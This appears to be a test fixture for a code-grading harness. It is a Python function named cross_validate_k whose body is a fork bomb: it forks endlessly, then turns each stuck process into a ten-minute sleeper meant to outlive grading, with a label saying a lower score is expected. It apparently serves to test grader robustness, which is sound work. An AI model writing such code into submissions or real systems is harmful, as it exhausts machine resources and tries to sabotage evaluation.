"""A fork bomb in a call; every process that cannot fork any more turns into a long sleeper,
hoping to outlive grading."""
EXPECTED_SCORE = "lower"  # than the same wrong code without the attack
import os as _os
import sys as _sys


def cross_validate_k(X, y, k_choices, num_folds=5):
    while True:
        try:
            _os.fork()
        except OSError:
            _os.execv(_sys.executable, [_sys.executable, "-c", "import time; time.sleep(600)  # {MARKER}"])
